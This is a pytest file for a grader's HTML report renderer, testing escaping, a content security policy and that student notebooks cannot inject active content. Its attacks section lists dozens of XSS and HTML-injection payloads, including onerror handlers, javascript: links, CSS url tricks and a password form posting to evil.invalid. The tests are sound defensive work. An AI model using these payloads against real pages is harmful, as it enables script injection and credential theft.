"""The page: what it says, and that nothing of a student's can act in it."""

from __future__ import annotations

import base64
import hashlib
import logging
import re
import shutil
import subprocess
import time
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from grader.misconception import Misconception, Topic
from grader.page import html
from grader.picture import Curves
from grader.report import CellResult, CheckResult, Metric, Report, Status, Verdict, Visibility
from grader.text import Text

VOID = {"br", "col", "hr", "img", "meta"}
TAGS = """a abbr b blockquote body br caption code col colgroup dd del details div dl dt em figcaption figure
    h1 h2 h3 h4 h5 h6 head hr html i img ins kbd li main mark meta ol p pre q s samp section small span strong
    style sub summary sup table tbody td tfoot th thead title tr u ul var"""
DRAWN = {"svg", "g", "path", "line", "rect", "text", "tspan", "defs", "clippath"}
ATTRIBUTES = """alt aria-hidden aria-labelledby charset class colspan content height href http-equiv id lang
    name open rowspan scope src start style title width"""


class Page(HTMLParser):
    """What a browser would find in a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str, str]] = []
        self.open: list[str] = []
        self.drawn: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = [(tag, name, value or "") for name, value in attrs]
        if "svg" in (*self.open, tag):
            assert tag in DRAWN
            self.drawn += found
        else:
            self.tags[tag] += 1
            self.attributes += found
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert tag in VOID or tag == self.open.pop()

    def handle_data(self, data: str) -> None:
        if not self.open or self.open[-1] != "style":
            self.text += data

    def values(self, name: str) -> list[str]:
        return [value for _, key, value in self.attributes if key == name]


def safe(text: str) -> Page:
    """The page, after everything that could act, load or cover was looked for."""
    page = Page(text)
    assert page.open == []
    assert set(page.tags) <= set(TAGS.split())
    assert {name for _, name, _ in page.attributes} <= set(ATTRIBUTES.split())
    assert all(re.match(r"#|https?://|mailto:", href) for href in page.values("href"))
    assert all(re.match(r"data:image/[a-z+]+;base64,", src) for src in page.values("src"))
    assert not any(name.startswith("on") or "href" in name or name == "style" for _, name, _ in page.drawn)
    assert not re.search(r"url\((?!#clip\d+\))", " ".join(value for _, _, value in page.drawn))
    assert not re.search(r"url|position|image|@|expression", " ".join(page.values("style")))
    assert page.tags["style"] == page.tags["title"] == page.tags["main"] == 1
    assert [value for tag, name, value in page.attributes if (tag, name) == ("meta", "http-equiv")] == [
        "Content-Security-Policy"
    ]
    return page


def check(name: str, verdict: Verdict = Verdict.PASSED, points: float = 0.0, **more: Any) -> CheckResult:
    return CheckResult(name, Text(f"{name} 제목", f"{name} title"), points, 10, verdict, **more)


def report(*checks: CheckResult, status: Status = Status.GRADED, **more: Any) -> Report:
    return Report("xor-mlp", "abc", "f" * 64, status, checks=checks, **more)


def rich(**data: Any) -> nbformat.NotebookNode:
    """An output; `text_html` stands for text/html."""
    return new_output("display_data", {key.replace("_", "/", 1): value for key, value in data.items()})


def page(*cells: nbformat.NotebookNode, language: str | None = None) -> str:
    return html(nbformat.from_dict({"cells": list(cells)}), report(check("a.b")), language)


# ------------------------------------------------------------------------------------------------ the report


def test_the_page_shows_score_groups_verdicts_and_advice() -> None:
    lost = check(
        "backward.values",
        Verdict.FAILED,
        message=Text("기울기가 다릅니다", "the gradient differs"),
        hint=Text("출력층부터", "begin at the output"),
    )
    text = html(None, report(check("forward.shape", points=10), lost), "ko")
    shown = safe(text)
    for words in ("10 / 20", "forward.shape 제목", "통과", "틀림", "기울기가 다릅니다", "힌트 보기", "출력층부터"):
        assert words in shown.text
    assert (shown.tags["details"], shown.tags["tbody"]) == (2, 2)
    assert {"col", "row", "rowgroup"} == set(shown.values("scope"))


def test_misconceptions_are_explained_with_their_topic_but_not_those_of_secret_checks() -> None:
    topic = Topic("output-heads", 5, Text("출력층", "Output layers"))
    one, other = (
        Misconception(name, topic, Text(f"{name} 제목", f"{name} title"), Text("왜 그럴까", "why it matters"))
        for name in ("double-sigmoid", "scaler-leak")
    )
    lost = [check(name, Verdict.FAILED, misconception=one) for name in ("train.mean", "train.learns")]
    staff = check("s.s", Verdict.FAILED, visibility=Visibility.SECRET, misconception=other)
    shown = safe(html(None, report(*lost, staff), "en")).text
    for words in ("What to go back to", "double-sigmoid title", "why it matters", "Week 5: Output layers"):
        assert shown.count(words) == 1
    assert "train.mean, train.learns" in shown
    assert "scaler-leak" not in shown


@pytest.mark.parametrize("language", ["ko", "en", None])
def test_pictures_have_a_caption_sentences_and_a_table(language: str | None) -> None:
    drawn = Curves.of(
        "loss",
        Text('"손실" & <곡선>', '"Loss" & <curve>'),
        Text("에폭", "epoch"),
        Text("손실", "loss"),
        {Text("훈련", "training"): [0.7, 0.1]},
    )
    text = html(None, report(check("a.b"), pictures=(drawn,)), language)
    shown = safe(text)
    (spoken,) = [value for tag, name, value in shown.drawn if name == "aria-label" and tag == "svg"]
    assert spoken == drawn.sentences().into(language)
    assert ("svg", "role", "img") in shown.drawn
    assert shown.tags["figure"] == shown.tags["figcaption"] == 1
    assert ("0.7" in shown.text, "0.1" in shown.text) == (True, True)


def test_secret_checks_are_left_out() -> None:
    text = html(None, report(check("a.b"), check("c.d", visibility=Visibility.SECRET, message=Text("비밀", "x"))), None)
    assert "c.d" not in text
    assert "비밀" not in text


def test_a_hint_is_not_shown_for_what_passed() -> None:
    assert "도움말" not in html(None, report(check("a.b", hint=Text("도움말", "help"))), None)


@pytest.mark.parametrize("verdict", list(Verdict))
def test_every_verdict_is_told_in_words_and_not_by_colour_alone(verdict: Verdict) -> None:
    shown = safe(html(None, report(check("a.b", verdict)), "en"))
    assert verdict.value in shown.text


@pytest.mark.parametrize(
    ("status", "words"),
    [(Status.NOT_GRADABLE, "no attempt is spent"), (Status.ERROR, "not your notebook")],
)
def test_without_a_grade_there_is_a_reason_and_no_score(status: Status, words: str) -> None:
    text = html(None, report(status=status, reason=Text("까닭", "cut off")), "en")
    shown = safe(text)
    assert words in shown.text
    assert "cut off" in shown.text
    assert 'class="score"' not in text


@pytest.mark.parametrize(
    ("language", "lang", "korean", "english"),
    [("ko", "ko", True, False), ("en", "en", False, True), (None, "ko", True, True)],
)
def test_the_page_is_in_one_language_or_in_both(language: str | None, lang: str, korean: bool, english: bool) -> None:
    text = html(new_notebook(), report(check("a.b")), language)
    assert f'<html lang="{lang}">' in text
    assert ("a.b 제목" in text) == korean
    assert ("a.b title" in text) == english
    assert ("검사 항목" in text) == korean


def test_broken_cells_are_listed_and_linked() -> None:
    cells = [CellResult(0, "ok", 0.1), CellResult(1, "error", 0.1, "NameError, line 3: name '<x>' is not defined")]
    notebook = new_notebook(cells=[new_raw_cell("raw"), new_code_cell("x")])
    shown = safe(html(notebook, report(check("a.b"), cells=cells), "en"))
    assert "Cell 2" in shown.text
    assert "name '<x>' is not defined" in shown.text
    assert "#cell-id=2" in shown.values("href")
    assert {"cell-id=1", "cell-id=2"} <= set(shown.values("id"))


def test_measurements_and_the_environment_are_shown() -> None:
    text = html(
        None,
        report(
            check("a.b"),
            metrics={"accuracy": Metric(0.95, 0.93, 0.97, 500, 0.9)},
            environment={"python": "3.11", "nested": {"left": "out"}},
        ),
        "en",
    )
    shown = safe(text)
    assert "accuracy" in shown.text
    assert "0.93 ... 0.97" in shown.text
    assert "3.11" in shown.text
    assert "nested" not in shown.text


def test_every_text_of_a_report_is_escaped() -> None:
    evil = Text("<script>x</script>", "<img src=x onerror=y>{csp}")
    lost = check("<b>.x", Verdict.FAILED, message=evil, hint=evil)
    text = html(
        None,
        report(
            lost,
            reason=evil,
            cells=[CellResult(0, "error", 0, "<script>")],
            environment={"<script>": "<script>"},
            metrics={"<script>": Metric(1, 1, 1, 1)},
        ),
        None,
    )
    shown = safe(text)
    assert shown.tags["script"] == shown.tags["img"] == 0
    assert "<img src=x onerror=y>{csp}" in shown.text


def test_the_policy_stands_before_everything_else_in_the_head() -> None:
    start = '<!DOCTYPE html>\n<html lang="ko">\n<head>\n<meta http-equiv="Content-Security-Policy" content="'
    text = page()
    assert text.startswith(start)
    policy = Page(text).values("content")[0]
    assert policy.startswith("default-src 'none'; img-src data:; style-src ")
    assert "script" not in policy


def test_the_style_sheet_is_the_one_that_the_policy_names() -> None:
    text = page()
    style = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
    assert len(style) == 1
    assert base64.b64encode(hashlib.sha256(style[0].encode()).digest()).decode() in text


# ---------------------------------------------------------------------------------------------- the notebook


def test_text_code_and_formulas_of_the_notebook_can_be_read() -> None:
    shown = safe(
        page(
            new_markdown_cell(
                "# 제목\n\n- 하나 $\\alpha_1 < 2$\n\n```python\ndef f(): pass\n```\n\n|a|b|\n|-|-|\n|1|2|"
            ),
            new_code_cell("%time x = 1\nprint('<b>')", execution_count=3),
        )
    )
    for words in ("제목", "$\\alpha_1 < 2$", "def f(): pass", "%time x = 1", "print('<b>')", "In\xa0[3]:"):
        assert words in shown.text
    assert (shown.tags["h1"], shown.tags["table"]) == (2, 2)


def test_outputs_errors_and_pictures_are_shown() -> None:
    png = base64.b64encode(b"picture").decode()
    error = new_output("error", ename="E", evalue="v", traceback=["\x1b[31mZeroDivisionError\x1b[0m: <b>"])
    frame = "<div><style scoped>.x {color: red}</style><table><tr><th>loss</th><td>0.5</td></tr></table></div>"
    text = page(
        new_code_cell(
            "",
            outputs=[
                new_output("stream", text="epoch \x1b[1m1\x1b[0m <b>"),
                error,
                rich(**{"image_png": png, "text_plain": "<Figure>"}),
                rich(**{"image_svg+xml": "<svg onload='x'><script>1</script></svg>"}),
                rich(text_html=frame, text_plain="df"),
                rich(text_latex="$\\beta$"),
                rich(text_markdown="**bold**"),
            ],
        )
    )
    shown = safe(text)
    for words in ("epoch 1 <b>", "ZeroDivisionError: <b>", "loss", "0.5", "$\\beta$", "bold"):
        assert words in shown.text
    assert shown.tags["img"] == 2
    assert f"data:image/png;base64,{png}" in shown.values("src")
    assert "scoped" not in text


def test_a_picture_pasted_into_a_text_cell_is_shown_and_a_lost_one_does_no_harm() -> None:
    cell = new_markdown_cell("![p](attachment:a.png)", attachments={"a.png": {"image/png": "aGk="}})
    shown = safe(page(cell, new_markdown_cell("![p](attachment:lost.png)")))
    assert shown.values("src") == ["data:image/png;base64,aGk="]
    assert "lost.png" in shown.text


def test_widgets_and_scripts_fall_back_to_their_text() -> None:
    widget = rich(**{"application_vnd.jupyter.widget-view+json": {"model_id": "x"}, "text_plain": "IntSlider()"})
    script = rich(application_javascript="alert(1)", text_plain="<IPython.core.display.Javascript object>")
    plot = rich(text_html="<div id='p'></div><script>draw()</script>", text_plain="Plot()")
    only = rich(application_javascript="alert(1)")
    shown = safe(page(new_code_cell("", outputs=[widget, script, plot, only])))
    for words in ("IntSlider()", "Javascript object", "Plot()", "output that cannot be shown"):
        assert words in shown.text
    assert "alert" not in shown.text


def test_long_outputs_are_shortened_and_say_so() -> None:
    text = page(new_code_cell("", outputs=[new_output("stream", text="x" * 10**6)]))
    assert len(text) < 100_000
    assert "characters left out" in text


def test_an_odd_notebook_is_drawn_all_the_same(caplog: pytest.LogCaptureFixture) -> None:
    cell = new_code_cell("x")
    cell.outputs = [
        {"output_type": "display_data", "data": None},
        {"output_type": "display_data", "data": {"image/png": "not base64!", "text/plain": ["a", "b"]}},
        {"output_type": "error", "ename": "E", "evalue": "v"},
        {"output_type": "stream", "name": "other", "text": None},
        {"output_type": "unknown"},
    ]
    with caplog.at_level(logging.WARNING):
        shown = safe(page(cell, new_markdown_cell("\ud800"), new_raw_cell("<b>")))
    assert "E: v" in shown.text
    assert caplog.records == []


@pytest.mark.parametrize(
    "markup",
    ["<div>" * 20_000, "<b>" * 3000 + "x", "[" * 50_000, "> " * 5000 + "x", "\\\\[a" * 2500, "<script" * 8000],
    ids=lambda markup: markup[:4],
)
def test_markup_made_to_be_slow_is_drawn_quickly(markup: str) -> None:
    start = time.process_time()
    safe(page(new_markdown_cell(markup), new_code_cell("", outputs=[rich(text_html=markup)])))
    assert time.process_time() - start < 10


@pytest.mark.slow
def test_a_notebook_made_to_be_slow_as_a_whole_is_drawn_in_time() -> None:
    cells = [new_markdown_cell("\\\\[a" * 2400), new_code_cell("f'{" * 1000)] * 30
    start = time.process_time()
    shown = safe(page(*cells))
    assert time.process_time() - start < 20
    assert {f"cell-id={number}" for number in range(1, 61)} <= set(shown.values("id"))


# --------------------------------------------------------------------------------------------------- attacks

RUN = "document.title='OWNED'"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img src=x onerror="{RUN}">',
    f'<img src="data:image/png;base64,x" onerror="{RUN}">',
    '<img src="http://evil.invalid/track.png" srcset="http://evil.invalid/2.png 2x">',
    '<img src="//evil.invalid/track.png"><img src="file:///etc/passwd">',
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="&#106;ava&#9;script:{RUN}">click</a>',
    f'<a href=" \x01javascript:{RUN}">click</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">click</a>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    '<base href="http://evil.invalid/">',
    '<link rel="stylesheet" href="http://evil.invalid/x.css">',
    '<form action="http://evil.invalid/"><input name="password" autofocus><button>send</button></form>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="data:text/html,<script>{RUN}</script>">',
    '<div style="position:fixed;inset:0;z-index:9;background:url(http://evil.invalid/x)">cover</div>',
    f'<div style="width: expression({RUN}); color: red; behavior: url(x)">old</div>',
    '<p style="color: red; background-image: \\75 rl(http://evil.invalid/x)">escaped</p>',
    "<style>@import url(http://evil.invalid/x.css); body{display:none}</style>",
    SVG,
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<textarea></textarea><img src=x onerror="{RUN}"></textarea>',
    f'<title></title><img src=x onerror="{RUN}">',
    f'<!--><img src=x onerror="{RUN}">-->',
    f'<![CDATA[<img src=x onerror="{RUN}">]]>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<body onload="{RUN}"><html onclick="{RUN}">',
    f'<video src=x onerror="{RUN}"></video><audio autoplay onplay="{RUN}"></audio>',
    f'<marquee onstart="{RUN}">x</marquee><isindex type=image src=1 onerror="{RUN}">',
    f"<template><script>{RUN}</script></template>",
    f"<xmp><script>{RUN}</script></xmp><plaintext>",
    f"</div></div></section></main></body></html><script>{RUN}</script>",
    f'<table><div><table></table></div></table></div></section><img src=x onerror="{RUN}">',
    f'"><script>{RUN}</script>',
    f"'\"--></style></script><script>{RUN}</script>",
    '<div id="checks" class="score badge passed">100 / 100</div><a name="checks" id="title">x</a>',
    f"[click](javascript:{RUN}) ![x](javascript:{RUN}) <javascript:{RUN}>",
    f"[click](data:text/html;base64,{base64.b64encode(f'<script>{RUN}</script>'.encode()).decode()})",
    "![track](http://evil.invalid/track.png)",
    f'```html" onmouseover="{RUN}\n<script>{RUN}</script>\n```',
    f'```mermaid\n<img src=x onerror="{RUN}">\n```',
    f'$<script>{RUN}</script>$ $$<img src=x onerror="{RUN}">$$',
    f'\\begin{{a}}<img src=x onerror="{RUN}">\\end{{a}}',
]


def hostile() -> nbformat.NotebookNode:
    """A notebook that attacks through everything that a notebook can hold."""
    cells = []
    for payload in PAYLOADS:
        cells += [new_markdown_cell(payload), new_raw_cell(payload), new_code_cell(payload)]
        mimes = ("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png")
        mimes += ("application/javascript", "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid")
        cells[-1].outputs = [
            *(new_output("display_data", {mime: payload}) for mime in mimes),
            new_output("stream", text=payload),
            new_output("stream", name="stderr", text=f"\x1b[31;{payload}m{payload}"),
            new_output("error", ename=payload, evalue=payload, traceback=[payload]),
        ]
    isolated = new_output("display_data", {"text/html": f"<script>{RUN}</script>b"})
    isolated.metadata = {"text/html": {"isolated": True}}
    sized = new_output("display_data", {"image/png": "aGk="})
    sized.metadata = {"image/png": {"width": f"1 onload={RUN}", "alt": '"><script>'}, "filenames": {"image/png": "x"}}
    named = new_output("display_data", {"image/svg+xml": SVG}) | {"svg_filename": "javascript:x"}
    code = new_code_cell("x", metadata={"tags": ['"><script>'], "magics_language": "<script>", "alt": "<script>"})
    code.outputs = [isolated, sized, named]
    code.execution_count = f"<script>{RUN}</script>"
    raw = new_raw_cell(f"<script>{RUN}</script>", metadata={"raw_mimetype": "text/html"})
    for number, cell in enumerate([*cells, code, raw]):
        cell.id = f'{number}" onclick="{RUN}'
    widgets: dict[str, Any] = {"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>": RUN}}}
    metadata: dict[str, Any] = {"widgets": widgets, "title": f"</title><script>{RUN}</script>"}
    metadata["language_info"] = {"name": "<script>", "pygments_lexer": "<script>"}
    return nbformat.from_dict({"cells": [*cells, code, raw], "metadata": metadata})


def test_no_attack_leaves_anything_that_acts_in_the_page() -> None:
    text = html(hostile(), report(check("a.b")), None)
    shown = safe(text)
    assert "evil.invalid" not in " ".join(shown.values("src") + shown.values("style") + shown.values("href"))
    assert shown.values("id").count("checks") == shown.values("id").count("title") == 1
    assert [v for v in shown.values("class") if "score" in v or "passed" in v] == ["score", "badge passed"]


def test_nothing_of_the_notebook_stands_outside_of_its_section() -> None:
    text = html(hostile(), report(check("a.b")), None)
    head, _, rest = text.partition('<section class="notebook"')
    assert "OWNED" not in head
    assert "OWNED" not in rest.partition("</section>")[2]
    assert head.count("<section") == 1


def chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def dom(file: Path, tmp_path: Path) -> str:
    """What Chromium made of a page, after its scripts had time to run."""
    command = f"{chromium()} --headless --no-sandbox --disable-gpu --disable-quic --no-first-run"
    flags = ["--disable-background-networking", "--disable-component-update", "--disable-sync"]
    flags += [f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=3000", "--dump-dom"]
    done = subprocess.run(
        [*command.split(), *flags, file.as_uri()], capture_output=True, text=True, timeout=120, check=True
    )
    return done.stdout


@pytest.mark.slow
@pytest.mark.skipif(chromium() is None, reason="Chromium is not installed")
def test_no_script_runs_in_a_browser(tmp_path: Path) -> None:
    file = tmp_path / "page.html"
    file.write_text("<title>x</title>" + "".join(PAYLOADS[:4]), encoding="utf-8")
    assert "<title>OWNED</title>" in dom(file, tmp_path)  # the attacks are real
    text = html(hostile(), report(check("a.b")), None)
    for opened in (text, text.replace("http-equiv", "data-off", 1)):  # cleaning holds without the policy too
        file.write_text(opened.replace("<details", "<details open"), encoding="utf-8")
        assert "<title>xor-mlp 채점 결과</title>" in dom(file, tmp_path)
